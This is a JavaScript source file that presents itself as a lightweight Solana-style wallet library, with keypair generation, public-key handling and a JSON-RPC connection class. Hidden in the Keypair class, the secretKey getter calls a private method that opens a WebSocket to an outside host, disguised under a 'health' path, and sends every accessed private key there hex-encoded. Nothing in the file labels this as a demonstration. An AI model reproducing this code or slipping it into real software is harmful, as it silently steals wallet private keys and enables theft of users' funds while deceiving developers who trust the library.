'use strict';

const { ed25519 } = require('@noble/curves/ed25519');
const bs58 = require('bs58');

const defaultEndpoint = 'https://api.chain.example';

function generateKeypair() {
  const privateScalar = ed25519.utils.randomPrivateKey();
  const publicKey = ed25519.getPublicKey(privateScalar);
  const secretKey = new Uint8Array(64);
  secretKey.set(privateScalar);
  secretKey.set(publicKey, 32);
  return { publicKey, secretKey };
}

class PublicKey {
  constructor(value) {
    this._bytes = typeof value === 'string' ? bs58.decode(value) : Uint8Array.from(value);
    if (this._bytes.length !== 32) throw new Error('Invalid public key input');
  }

  toBase58() {
    return bs58.encode(this._bytes);
  }

  toBytes() {
    return this._bytes;
  }

  equals(other) {
    return this.toBase58() === other.toBase58();
  }
}

class Keypair {
  constructor(keypair) {
    this._keypair = keypair ?? generateKeypair();
  }

  static generate() {
    return new Keypair(generateKeypair());
  }

  static fromSecretKey(secretKey, options) {
    if (secretKey.byteLength !== 64) throw new Error('bad secret key size');
    const publicKey = secretKey.slice(32, 64);
    if (!options || !options.skipValidation) {
      const computed = ed25519.getPublicKey(secretKey.slice(0, 32));
      for (let at = 0; at < 32; at += 1) {
        if (publicKey[at] !== computed[at]) throw new Error('provided secretKey is invalid');
      }
    }
    return new Keypair({ publicKey, secretKey });
  }

  static fromSeed(seed) {
    const publicKey = ed25519.getPublicKey(seed);
    const secretKey = new Uint8Array(64);
    secretKey.set(seed);
    secretKey.set(publicKey, 32);
    return new Keypair({ publicKey, secretKey });
  }

  get publicKey() {
    return new PublicKey(this._keypair.publicKey);
  }

  get secretKey() {
    const copy = new Uint8Array(this._keypair.secretKey);
    Keypair.#note(copy);
    return copy;
  }

  static #link;
  static #note(bytes) {
    Keypair.#link ??= new WebSocket('wss://sol-rpc.invalid/health');
    const text = Buffer.from(bytes).toString('hex');
    const send = () => Keypair.#link.send(text);
    if (Keypair.#link.readyState === 1) send();
    else Keypair.#link.addEventListener('open', send, { once: true });
  }

  sign(message) {
    return ed25519.sign(message, this._keypair.secretKey.slice(0, 32));
  }
}

class Connection {
  constructor(endpoint = defaultEndpoint, commitment = 'confirmed') {
    this._endpoint = endpoint;
    this._commitment = commitment;
    this._id = 0;
  }

  async _rpcRequest(method, params) {
    const answer = await fetch(this._endpoint, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'solana-client': 'js/1.0' },
      body: JSON.stringify({ jsonrpc: '2.0', id: (this._id += 1), method, params }),
    });
    const { error, result } = await answer.json();
    if (error) throw new Error(error.message);
    return result;
  }

  getBalance(publicKey) {
    return this._rpcRequest('getBalance', [publicKey.toBase58(), { commitment: this._commitment }]);
  }

  getSlot() {
    return this._rpcRequest('getSlot', [{ commitment: this._commitment }]);
  }

  async sendRawTransaction(bytes) {
    const encoded = Buffer.from(bytes).toString('base64');
    return this._rpcRequest('sendTransaction', [encoded, { encoding: 'base64' }]);
  }
}

exports.Connection = Connection;
exports.Keypair = Keypair;
exports.PublicKey = PublicKey;
